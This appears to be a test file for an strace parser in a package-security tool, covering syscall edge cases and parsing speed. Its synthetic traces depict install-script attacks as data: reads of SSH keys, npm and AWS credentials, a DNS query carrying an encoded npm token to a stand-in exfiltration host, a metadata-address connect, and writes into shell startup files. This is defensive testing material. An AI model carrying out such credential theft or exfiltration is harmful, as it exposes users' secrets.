// Synthetic edge cases of the strace parser, and its throughput on 100k lines.
import { describe, test } from 'node:test';
import { strict as assert } from 'node:assert';
import { TraceEvent, type TraceEventOf } from '@secure-registry/shared';
import { decodeDnsQuery } from './dns-wire.js';
import { parseStrace, parseStraceDetailed } from './strace-parser.js';

const of = <K extends TraceEvent['kind']>(events: TraceEvent[], kind: K): TraceEventOf<K>[] =>
  events.filter((e): e is TraceEventOf<K> => e.kind === kind);

/** A DNS query packet for `name`, rendered the way strace prints buffers (octal escapes). */
function dnsQuery(name: string, qtype = 1): string {
  const bytes = [0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
  for (const label of name.split('.')) bytes.push(label.length, ...Buffer.from(label));
  bytes.push(0, qtype >> 8, qtype & 0xff, 0, 1);
  return bytes
    .map((b) =>
      b >= 0x30 && b <= 0x7a && b !== 0x5c ? String.fromCharCode(b) : `\\${b.toString(8).padStart(3, '0')}`,
    )
    .join('');
}

describe('strace parser edge cases', () => {
  test('C escapes, quotes and truncation in argv', () => {
    const line = String.raw`100 execve("/bin/sh", ["sh", "-c", "echo \"a\\tb\"\n\x41\101\t\303\251", "long"..., ...], 0x7ffd /* 3 vars */) = 0`;
    const [p] = of(parseStrace(line), 'process');
    assert.deepEqual(p?.argv, ['sh', '-c', 'echo "a\\tb"\nAA\té', 'long']);
    assert.equal(p?.path, '/bin/sh');
  });

  test('execve with -v keeps the npm attribution variables only', () => {
    const line = `7 execve("/usr/bin/node", ["node", "install.js"], ["HOME=/home/u", "npm_package_name=left-pad", "NPM_TOKEN=secret", "npm_lifecycle_event=postinstall"]) = 0`;
    const [p] = of(parseStrace(line), 'process');
    assert.deepEqual(p?.env, { npm_package_name: 'left-pad', npm_lifecycle_event: 'postinstall' });
  });

  test('unfinished/resumed pairs are stitched per pid, even interleaved', () => {
    const text = [
      '[pid 10] 12:00:00.000001 openat(AT_FDCWD</w>, "/home/u/.npmrc", O_RDONLY <unfinished ...>',
      '[pid 11] 12:00:00.000002 openat(AT_FDCWD</w>, "/home/u/.ssh/id_rsa", O_RDONLY <unfinished ...>',
      '[pid 10] 12:00:00.000003 <... openat resumed>) = 3</home/u/.npmrc>',
      '[pid 11] 12:00:00.000004 <... openat resumed>) = -1 EACCES (Permission denied)',
      '[pid 12] 12:00:00.000005 <... read resumed>"x", 1) = 1',
    ].join('\n');
    const r = parseStraceDetailed(text);
    const f = of(r.events, 'file');
    assert.deepEqual(
      f.map((e) => [e.pid, e.path, e.ts]),
      [
        [10, '/home/u/.npmrc', 43200.000001],
        [11, '/home/u/.ssh/id_rsa', 43200.000002],
      ],
    );
    assert.deepEqual(r.failedSeqs, [f[1]?.seq]); // the failed read attempt is kept, and flagged
    assert.equal(r.stats.unmatchedResumes, 1);
  });

  test('cwd tracking: chdir, fchdir, dirfd decorations and AT_FDCWD without -yy', () => {
    const text = [
      '5 chdir("/home/u/project") = 0',
      '5 openat(AT_FDCWD, ".env", O_RDONLY) = 3',
      '5 openat(AT_FDCWD, "../.aws/./credentials", O_RDONLY) = 3',
      '5 openat(7</home/u/.ssh>, "id_ed25519", O_RDONLY) = 4',
      '5 fchdir(8</home/u/.config>) = 0',
      '5 open("gh/hosts.yml", O_RDONLY) = 3',
      '5 chdir("/nonexistent") = -1 ENOENT (No such file or directory)',
      '5 mkdir("autostart", 0755) = 0',
    ].join('\n');
    const paths = of(parseStrace(text), 'file').map((e) => `${e.op} ${e.path}`);
    assert.deepEqual(paths, [
      'read /home/u/project/.env',
      'read /home/u/.aws/credentials',
      'read /home/u/.ssh/id_ed25519',
      'read /home/u/.config/gh/hosts.yml',
      'mkdir /home/u/.config/autostart',
    ]);
  });

  test('open flags, unlink/rmdir, rename family with targets, chmod, links', () => {
    const text = [
      '1 openat(AT_FDCWD</p>, "a", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 3</p/a>',
      '1 openat(AT_FDCWD</p>, "b", O_RDWR|O_CLOEXEC) = 3</p/b>',
      '1 openat(AT_FDCWD</p>, "c", O_WRONLY|O_APPEND) = 3</p/c>',
      '1 openat(AT_FDCWD</p>, "d", O_RDONLY|O_DIRECTORY) = 3</p/d>',
      '1 creat("/p/e", 0644) = 3',
      '1 unlinkat(AT_FDCWD</p>, "f", 0) = 0',
      '1 unlinkat(3</p/d>, "g", AT_REMOVEDIR) = 0',
      '1 rmdir("/p/h") = 0',
      '1 rename("/tmp/x", "/home/u/.bashrc") = 0',
      '1 renameat2(AT_FDCWD</p>, "i", 4</home/u>, ".zshrc", RENAME_NOREPLACE) = 0',
      '1 chmod("/tmp/payload", 0755) = 0',
      '1 fchmodat(AT_FDCWD</p>, "j", 0700) = 0',
      '1 symlinkat("/home/u/.ssh/id_rsa", AT_FDCWD</p>, "k") = 0',
      '1 openat2(AT_FDCWD</p>, "l", {flags=O_WRONLY|O_CREAT, mode=0600, resolve=0}, 24) = 3',
    ].join('\n');
    const f = of(parseStrace(text), 'file').map((e) => [e.op, e.path, e.target]);
    assert.deepEqual(f, [
      ['create', '/p/a', undefined],
      ['write', '/p/b', undefined],
      ['write', '/p/c', undefined],
      ['read', '/p/d', undefined],
      ['create', '/p/e', undefined],
      ['delete', '/p/f', undefined],
      ['delete', '/p/d/g', undefined],
      ['delete', '/p/h', undefined],
      ['rename', '/tmp/x', '/home/u/.bashrc'],
      ['rename', '/p/i', '/home/u/.zshrc'],
      ['chmod', '/tmp/payload', undefined],
      ['chmod', '/p/j', undefined],
      ['create', '/p/k', '/home/u/.ssh/id_rsa'],
      ['create', '/p/l', undefined],
    ]);
  });

  test('mkdir of a directory that exists (mkdir -p walking its ancestors) is no event; other failures are', () => {
    const text = [
      '1 mkdir("/home/u", 0777) = -1 EEXIST (File exists)',
      '1 mkdirat(AT_FDCWD</home/u>, "projects", 0777) = -1 EEXIST (File exists)',
      '1 mkdir("/home/u/.cache/tool", 0777) = 0',
      '1 mkdir("/root/x", 0777) = -1 EACCES (Permission denied)',
    ].join('\n');
    const f = of(parseStrace(text), 'file').map((e) => [e.op, e.path]);
    assert.deepEqual(f, [
      ['mkdir', '/home/u/.cache/tool'],
      ['mkdir', '/root/x'],
    ]);
  });

  test('connect: AF_INET, AF_INET6, AF_UNIX, -yy TCP decoration, socket() tracking without -yy', () => {
    const text = [
      '3 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 5',
      '3 connect(5, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("169.254.169.254")}, 16) = 0',
      '3 connect(6<TCPv6:[12345]>, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ECONNREFUSED (Connection refused)',
      '3 connect(7<UNIX:[999]>, {sa_family=AF_UNIX, sun_path="/var/run/docker.sock"}, 110) = 0',
      '3 connect(8<TCP:[10.0.0.2:40000->93.184.216.34:443]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("93.184.216.34")}, 16) = 0',
      '3 connect(9, {sa_family=AF_UNSPEC, sa_data="\\0\\0"}, 16) = 0',
    ].join('\n');
    const r = parseStraceDetailed(text);
    const c = of(r.events, 'connect').map((e) => [e.protocol, e.address, e.port]);
    assert.deepEqual(c, [
      ['udp', '169.254.169.254', 4444],
      ['tcp', '2001:db8::1', 443],
      ['unix', '/var/run/docker.sock', undefined],
      ['tcp', '93.184.216.34', 443],
    ]);
    assert.equal(r.failedSeqs.length, 1); // the refused one: still reported as an attempt
  });

  test('DNS queries decoded from sendto, sendmmsg and a connected UDP socket', () => {
    const q1 = dnsQuery('6e706d5f746f6b656e.exfil.test');
    const q2 = dnsQuery('registry.npmjs.org', 28);
    const text = [
      `4 sendto(3<UDP:[0.0.0.0:5353]>, "${q1}", 47, MSG_NOSIGNAL, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("10.0.0.1")}, 16) = 47`,
      `4 sendmmsg(6<UDP:[10.0.0.2:5000->10.0.0.1:53]>, [{msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base="${q2}", iov_len=36}], msg_iovlen=1, msg_controllen=0, msg_flags=0}, msg_len=36}], 1, MSG_NOSIGNAL) = 1`,
      `4 connect(7, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("10.0.0.1")}, 16) = 0`,
      `4 sendto(7, "${dnsQuery('abc.example', 16)}", 29, 0, NULL, 0) = 29`,
    ].join('\n');
    const events = parseStrace(text);
    assert.deepEqual(
      of(events, 'dns').map((d) => [d.name, d.qtype]),
      [
        ['6e706d5f746f6b656e.exfil.test', 'A'],
        ['registry.npmjs.org', 'AAAA'],
        ['abc.example', 'TXT'],
      ],
    );
    assert.deepEqual(
      decodeDnsQuery(new Uint8Array([1, 2, 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0, 1, 97, 0])),
      undefined,
    );
  });

  test('process tree: fork, vfork, clone3 threads fold into their process, killed processes', () => {
    const text = [
      '[pid 20] 1.000000 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, child_tid=0x1} => {parent_tid=[21]}, 88) = 21',
      '[pid 21] 1.100000 openat(AT_FDCWD</w>, "/home/u/.npmrc", O_RDONLY) = 3',
      '[pid 20] 1.200000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 22',
      '[pid 22] 1.300000 execve("/usr/bin/curl", ["curl", "http://x.test"], 0x1 /* 2 vars */) = 0',
      '[pid 22] 1.400000 connect(3, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("10.0.0.9")} <unfinished ...>',
      '[pid 22] 1.500000 +++ killed by SIGKILL +++',
      '[pid 21] 1.600000 +++ exited with 0 +++',
      '[pid 20] 1.700000 +++ exited with 3 +++',
    ].join('\n');
    const events = parseStrace(text);
    for (const e of events) TraceEvent.parse(e);
    const npmrc = of(events, 'file')[0];
    assert.equal(npmrc?.pid, 20); // the worker thread's read belongs to process 20
    const curl = of(events, 'process')[0];
    assert.deepEqual([curl?.pid, curl?.ppid, curl?.cwd], [22, 20, '/w']);
    assert.deepEqual(of(events, 'connect')[0]?.address, '10.0.0.9'); // unfinished when killed: still evidence
    assert.deepEqual(
      of(events, 'exit').map((e) => [e.pid, e.code, e.signal]),
      [
        [22, undefined, 'SIGKILL'],
        [20, 3, undefined],
      ],
    );
  });

  describe('a new pid seen while clones of different families are in flight', () => {
    // Runner 10 starts a thread (clone3, CLONE_THREAD) while its script's shell 12 vforks `node`: both
    // calls are unfinished when the first line of a new pid arrives. Which call made it is only known
    // when one returns its id; guessing the last one in flight made `node` a thread of the runner.
    const THREAD =
      'clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, child_tid=0x1}';
    const start = [
      '10 1.000000 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 12',
      '12 1.010000 chdir("/p/node_modules/a") = 0',
      '12 1.020000 execve("/usr/bin/sh", ["sh", "-c", "node t.js"], 0x1 /* 3 vars */) = 0',
      '12 1.030000 vfork( <unfinished ...>',
      `10 1.040000 ${THREAD} <unfinished ...>`,
    ];

    test("the child of the vfork is the shell's, not a thread of the runner", () => {
      const text = [
        ...start,
        '13 1.050000 execve("/usr/bin/node", ["node", "t.js"], 0x1 /* 3 vars */ <unfinished ...>',
        '12 1.060000 <... vfork resumed>) = 13',
        '13 1.070000 <... execve resumed>) = 0',
        '14 1.075000 openat(AT_FDCWD</p>, "/p/.npmrc", O_RDONLY) = 3',
        '10 1.080000 <... clone3 resumed> => {parent_tid=[14]}, 88) = 14',
        '13 1.090000 openat(AT_FDCWD</p/node_modules/a>, "/home/u/.npmrc", O_RDONLY) = 3',
        '13 1.100000 +++ exited with 0 +++',
      ].join('\n');
      const events = parseStrace(text);
      for (const e of events) TraceEvent.parse(e);
      const node = of(events, 'process').find((e) => e.argv[0] === 'node');
      assert.deepEqual([node?.pid, node?.ppid, node?.cwd], [13, 12, '/p/node_modules/a']);
      assert.deepEqual(
        of(events, 'file').map((e) => [e.path, e.pid]),
        [
          ['/p/.npmrc', 10], // the runner's thread, seen before its clone3 returned
          ['/home/u/.npmrc', 13],
        ],
      );
      assert.deepEqual(
        of(events, 'exit').map((e) => e.pid),
        [13],
      );
    });

    test('the thread of the clone3 folds into its process once the clone3 returns', () => {
      const text = [
        ...start,
        '13 1.050000 openat(AT_FDCWD</p>, "/p/.npmrc", O_RDONLY) = 3',
        '13 1.055000 clone(child_stack=NULL, flags=SIGCHLD) = 15',
        '15 1.056000 execve("/usr/bin/true", ["true"], 0x1 /* 3 vars */) = 0',
        '10 1.060000 <... clone3 resumed> => {parent_tid=[13]}, 88) = 13',
        '14 1.070000 execve("/usr/bin/node", ["node", "t.js"], 0x1 /* 3 vars */) = 0',
        '12 1.080000 <... vfork resumed>) = 14',
        '13 1.090000 +++ exited with 0 +++',
      ].join('\n');
      const events = parseStrace(text);
      assert.deepEqual(
        of(events, 'file').map((e) => [e.path, e.pid]),
        [['/p/.npmrc', 10]],
      );
      assert.deepEqual(
        of(events, 'process').map((e) => [e.argv[0], e.pid, e.ppid]),
        [
          ['sh', 12, 10],
          ['true', 15, 10], // a child of the runner's thread is the runner's child
          ['node', 14, 12],
        ],
      );
      assert.deepEqual(of(events, 'exit'), []); // a thread's exit is not a process exit
    });

    test('when no call ever returns it, it stays its own parentless process (never guessed)', () => {
      const text = [
        ...start,
        '13 1.050000 execve("/usr/bin/node", ["node", "t.js"], 0x1 /* 3 vars */) = 0',
        '13 1.060000 openat(AT_FDCWD</p/node_modules/a>, "/home/u/.npmrc", O_RDONLY) = 3',
        '10 1.070000 +++ killed by SIGKILL +++',
        '12 1.070000 +++ killed by SIGKILL +++',
      ].join('\n');
      const events = parseStrace(text);
      const mine = events.filter((e) => e.kind !== 'exit' && e.pid === 13);
      assert.deepEqual(
        mine.map((e) => [e.kind, e.ppid]),
        [
          ['process', undefined],
          ['file', undefined],
        ],
      );
    });

    test('clones in flight of one family still adopt at first sight', () => {
      const text = [
        `10 1.000000 ${THREAD} <unfinished ...>`,
        `11 1.000001 ${THREAD} <unfinished ...>`,
        '12 1.010000 openat(AT_FDCWD</p>, "/p/.npmrc", O_RDONLY) = 3',
        '10 1.020000 <... clone3 resumed> => {parent_tid=[12]}, 88) = 12',
      ].join('\n');
      const text0 = `10 0.900000 ${THREAD} => {parent_tid=[11]}, 88) = 11\n${text}`;
      assert.deepEqual(
        of(parseStrace(text0), 'file').map((e) => e.pid),
        [10],
      );
    });
  });

  test('malformed input is skipped, never thrown on', () => {
    const text = [
      'garbage',
      '[pid 1] openat(AT_FDCWD, "/unterminated',
      '1 openat(AT_FDCWD, "/ok", O_RDONLY) = 3',
      '1 Openat(weird) = 1',
      '\u0000\u0001binary',
      '1 <... nothing resumed>) = 0',
      '1 execve("/x", ["a", ', // cut off mid-line
      '',
      '[ Process PID=9 runs in 32 bit mode. ]',
    ].join('\r\n');
    const r = parseStraceDetailed(text);
    assert.deepEqual(
      of(r.events, 'file').map((e) => e.path),
      ['/ok'],
    );
    assert.ok(r.stats.skipped >= 4);
    assert.doesNotThrow(() => parseStrace('"\\'));
    assert.deepEqual(parseStrace(''), []);
  });

  test('100k lines parse fast (prints the throughput)', () => {
    const block = [
      '[pid  4242] 12:00:00.000001 openat(AT_FDCWD</home/u/project/node_modules/pkg>, "lib/index.js", O_RDONLY|O_CLOEXEC) = 21</home/u/project/node_modules/pkg/lib/index.js>',
      '[pid  4243] 12:00:00.000002 openat(AT_FDCWD</home/u/project>, "/usr/lib/locale/C.utf8/LC_CTYPE", O_RDONLY|O_CLOEXEC <unfinished ...>',
      '[pid  4242] 12:00:00.000003 execve("/usr/bin/node", ["node", "install.js", "--flag"], 0x7ffe13a3fea0 /* 39 vars */) = 0',
      '[pid  4243] 12:00:00.000004 <... openat resumed>) = -1 ENOENT (No such file or directory)',
      '[pid  4242] 12:00:00.000005 connect(20<TCP:[15942]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("10.1.2.3")}, 16) = -1 EINPROGRESS (Operation now in progress)',
      '[pid  4242] 12:00:00.000006 mmap(NULL, 8192, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = 0x7f8c7f53e000',
      '[pid  4242] 12:00:00.000007 unlink("/tmp/x") = 0',
      '[pid  4242] 12:00:00.000008 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=7909, si_uid=0, si_status=0} ---',
      '[pid  4242] 12:00:00.000009 rename("/tmp/a", "/tmp/b") = 0',
      '[pid  4242] 12:00:00.000010 wait4(-1, [{WIFEXITED(s) && WEXITSTATUS(s) == 0}], 0, NULL) = 7909',
    ];
    const lines: string[] = [];
    while (lines.length < 100_000) lines.push(...block);
    const text = lines.join('\n');
    const start = performance.now();
    const r = parseStraceDetailed(text);
    const ms = performance.now() - start;
    const rate = Math.round(lines.length / (ms / 1000));
    console.log(
      `strace parse: ${lines.length} lines (${(text.length / 1e6).toFixed(1)} MB) in ${ms.toFixed(0)} ms = ${rate} lines/s`,
    );
    assert.equal(r.stats.skipped, 0);
    assert.equal(r.events.length, 60_000); // 6 event-producing lines per 10-line block
    assert.ok(ms < 10_000, `too slow: ${ms} ms`); // generous: the machine is shared
  });
});
